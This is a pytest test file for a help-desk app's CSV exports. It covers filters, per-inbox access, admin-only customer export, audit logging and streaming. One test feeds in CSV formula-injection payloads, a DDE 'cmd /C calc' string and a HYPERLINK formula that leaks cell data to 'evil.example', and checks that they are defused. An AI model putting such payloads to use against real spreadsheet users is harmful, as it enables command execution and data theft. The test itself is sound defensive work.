"""CSV exports through the web: the inbox view's tickets with the filters on screen, only
what the teammate sees, formulas defused, an audit line each; customers for admins; and
a large export written while it is read, not after."""
import csv
import io
from datetime import timedelta

from sqlalchemy import event, insert, update

from halo.extensions import db
from halo.models import AuditEvent, Customer, Ticket
from halo.services.access import inboxes, teams
from halo.services.integrations import exports
from tests.conftest import Browser
from tests.factories import make_customer, make_ticket, make_user


def _rows(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "text/csv" and response.is_streamed
    text = response.get_data(as_text=True)
    assert text.startswith(exports.BOM)  # Excel reads the file as UTF-8 only with the mark
    return list(csv.reader(io.StringIO(text[1:])))


def _ids(rows):
    return [int(r[0]) for r in rows[1:]]


def _exports():
    db.session.expire_all()
    return db.session.scalars(db.select(AuditEvent).where(AuditEvent.action == "export")
                              .order_by(AuditEvent.id)).all()


def test_tickets_export_follows_the_view_and_filters(as_agent, agent, frozen):
    vip = make_customer(name="Vera Vip", traits={"plan": "enterprise"})
    t = frozen.start
    wanted = [make_ticket(customer=vip, subject=f"Refund {n}", status="resolved", channel="chat",
                          assignee_id=agent.id, now=t - timedelta(minutes=n)).id for n in range(3)]
    make_ticket(customer=vip, subject="Refund by email", status="resolved", channel="email", assignee_id=agent.id)
    make_ticket(subject="Refund, other plan", status="resolved", channel="chat", assignee_id=agent.id)
    make_ticket(customer=vip, subject="Refund, still open", status="open", channel="chat", assignee_id=agent.id)
    make_ticket(customer=vip, subject="Unassigned refund", status="resolved", channel="chat")
    make_ticket(customer=vip, subject="Shipping", status="resolved", channel="chat", assignee_id=agent.id)
    query = "status=resolved&channel=chat&assignee=me&trait=plan:enterprise&q=refund"
    response = as_agent.get(f"/inbox/all/export.csv?{query}")
    assert response.headers["Content-Disposition"] == 'attachment; filename="halo-tickets-all-2026-11-24.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    rows = _rows(response)
    assert rows[0] == list(exports.TICKET_COLUMNS)
    assert _ids(rows) == wanted  # newest activity first, as the view lists them
    first = dict(zip(rows[0], rows[1]))
    assert (first["subject"], first["status"], first["channel"], first["customer_name"], first["assignee"],
            first["last_activity_at"]) == ("Refund 0", "resolved", "chat", "Vera Vip", "Sara Lind", "2026-11-24 09:00:00")
    [line] = _exports()
    assert (line.actor_id, line.target) == (agent.id, "tickets")
    assert line.detail == {"view": "all", "filters": "status=resolved&assignee=me&channel=chat"
                                                      "&trait=plan%3Aenterprise&q=refund"}
    # The view decides too: Resolved lists the resolved ones, Open only the open one.
    assert len(_ids(_rows(as_agent.get("/inbox/resolved/export.csv?channel=chat&assignee=me")))) == 5
    assert [r[1] for r in _rows(as_agent.get("/inbox/open/export.csv"))[1:]] == ["Refund, still open"]


def test_the_inbox_offers_the_export_with_its_filters(as_agent):
    make_ticket(status="resolved", channel="chat")
    page = as_agent.get("/inbox/resolved?channel=chat").get_data(as_text=True)
    assert 'href="/inbox/resolved/export.csv?channel=chat"' in page and ">Export CSV</a>" in page
    page = as_agent.get("/inbox/open").get_data(as_text=True)
    assert 'href="/inbox/open/export.csv"' in page


def test_a_cell_a_spreadsheet_would_run_is_defused(as_agent):
    evil = make_customer(name="@SUM(1+1)*cmd|' /C calc'!A0", email="evil@example.org")
    make_ticket(customer=evil, subject='=HYPERLINK("http://evil.example/?x="&A1,"click")', body="+1 555 0100")
    make_ticket(subject="-2+3", body="\tTabbed")
    make_ticket(subject="\r=1+1", body="Plain text, with a comma and an é")
    rows = _rows(as_agent.get("/inbox/all/export.csv"))
    by_subject = {r[1]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert set(by_subject) == {"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'-2+3", "'\r=1+1"}
    link = by_subject["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"]
    assert link["customer_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and link["preview"] == "'+1 555 0100"
    assert by_subject["'-2+3"]["preview"] == "'\tTabbed"
    assert by_subject["'\r=1+1"]["preview"] == "Plain text, with a comma and an é"  # untouched
    assert exports.cell(-5) == -5 and exports.cell("a=b") == "a=b"  # numbers and inner signs stay


def test_an_agent_exports_only_the_tickets_of_their_inboxes(client, app, admin):
    billing = inboxes.save_inbox(admin.id, None, name="Billing")
    other = inboxes.save_inbox(admin.id, None, name="Other")
    bea = make_user(name="Bea")
    teams.save_team(admin.id, None, name="Billing people", member_ids=[bea.id], inbox_ids=[billing.id])
    teams.save_team(admin.id, None, name="Other people", member_ids=[], inbox_ids=[other.id])
    mine = make_ticket(subject="Invoice", inbox_id=billing.id)
    theirs = make_ticket(subject="Secret", inbox_id=other.id)
    browser = Browser(client)
    browser.login(bea.email)
    rows = _rows(browser.get("/inbox/all/export.csv"))
    assert _ids(rows) == [mine.id] and rows[1][4] == "Billing"
    assert _ids(_rows(browser.get("/inbox/all/export.csv?q=secret"))) == []
    admin_browser = Browser(app.test_client())  # a second browser, its own cookies
    admin_browser.login(admin.email)
    assert sorted(_ids(_rows(admin_browser.get("/inbox/all/export.csv")))) == sorted([mine.id, theirs.id])


def test_a_read_only_teammate_may_export_tickets_but_not_customers(client):
    reader = make_user(name="Reader", role="readonly")
    ticket = make_ticket()
    browser = Browser(client)
    browser.login(reader.email)
    assert _ids(_rows(browser.get("/inbox/all/export.csv"))) == [ticket.id]
    assert browser.get("/settings/export/customers.csv").status_code == 403


def test_a_filter_that_does_not_parse_is_refused_and_not_recorded(as_agent):
    for query in ("status=bogus", "assignee=someone", "created_from=yesterday", "trait=bad%20key"):
        response = as_agent.get(f"/inbox/all/export.csv?{query}")
        assert response.status_code == 400, query
        assert "text/html" in response.content_type
    assert as_agent.get("/inbox/nowhere/export.csv").status_code == 404
    assert _exports() == []


def test_customers_export_is_for_admins(as_admin, app, admin, agent, frozen):
    as_agent = Browser(app.test_client())
    as_agent.login(agent.email)
    ada = make_customer(name="Ada", email="ada@example.org", language="de", traits={"plan": "pro", "seats": 5})
    bare = make_customer(name="=cmd", email=None, language=None, traits={})
    assert as_agent.get("/settings/export/customers.csv").status_code == 403
    assert as_agent.get("/settings/export").status_code == 403
    assert _exports() == []
    page = as_admin.get("/settings/export").get_data(as_text=True)
    assert 'href="/settings/export/customers.csv"' in page
    response = as_admin.get("/settings/export/customers.csv")
    assert response.headers["Content-Disposition"] == 'attachment; filename="halo-customers-2026-11-24.csv"'
    rows = _rows(response)
    assert rows == [list(exports.CUSTOMER_COLUMNS),
                    [str(ada.id), "Ada", "ada@example.org", "de", "2026-11-24 09:00:00", '{"plan": "pro", "seats": 5}'],
                    [str(bare.id), "'=cmd", "", "", "2026-11-24 09:00:00", ""]]
    [line] = _exports()
    assert (line.actor_id, line.target, line.detail) == (admin.id, "customers", {})


def _seed(n, inbox_id, start):
    """n tickets in one statement (the factories would take a minute for 5,000)."""
    customer = make_customer(name="Bulk")
    db.session.execute(insert(Ticket), [
        {"subject": f"Bulk {i}", "customer_id": customer.id, "inbox_id": inbox_id, "channel": "email",
         "status": "open", "bucket": "open", "preview": "", "created_at": start,
         "last_activity_at": start - timedelta(seconds=i)} for i in range(n)])
    db.session.commit()


def test_a_large_export_is_written_while_it_is_read(as_admin, app, monkeypatch, frozen):
    monkeypatch.setattr(exports, "BATCH", 500)
    _seed(5000, inboxes.default_inbox_id(), frozen.start)
    pages = []

    def count_pages(_conn, _cursor, statement, _params, _context, _many):
        if "row_customer" in statement:  # the inbox's page query (services/inbox/views.py)
            pages.append(statement)
    event.listen(db.engine, "before_cursor_execute", count_pages)
    try:
        response = as_admin.get("/inbox/all/export.csv")
        assert response.status_code == 200 and response.is_streamed
        chunks = iter(response.response)
        header = next(chunks)
        assert pages == []  # the header leaves before a row is read
        first = next(chunks)
        assert len(pages) == 1
        assert first.decode().count("\r\n") == 500  # one batch, not the file
        rest = b"".join(chunks)
        response.close()
    finally:
        event.remove(db.engine, "before_cursor_execute", count_pages)
    rows = list(csv.reader(io.StringIO((header + first + rest).decode()[1:])))
    assert len(rows) == 5001 and rows[1][1] == "Bulk 0" and rows[-1][1] == "Bulk 4999"
    assert len(pages) == 10
    assert db.session.scalar(db.select(db.func.count()).select_from(Customer)) == 1


def test_a_ticket_that_moves_up_during_the_export_is_written_once(as_admin, monkeypatch, frozen):
    monkeypatch.setattr(exports, "BATCH", 2)
    ids = [make_ticket(subject=f"T{n}", now=frozen.start - timedelta(minutes=n)).id for n in range(5)]
    response = as_admin.get("/inbox/all/export.csv")
    chunks = iter(response.response)
    read = next(chunks) + next(chunks)  # the header, then the two newest
    # Another teammate's request, on a connection of its own (the export's contexts are
    # still pushed in this thread between chunks, so db.session here would be the export's):
    # a new message moves the oldest ticket above the export's cursor.
    with db.engine.begin() as other:
        other.execute(update(Ticket).where(Ticket.id == ids[-1])
                      .values(last_activity_at=frozen.start + timedelta(minutes=5)))
    read += b"".join(chunks)
    response.close()
    rows = list(csv.reader(io.StringIO(read.decode()[1:])))
    assert _ids(rows) == ids  # one moment's picture: the moved ticket where it stood, once
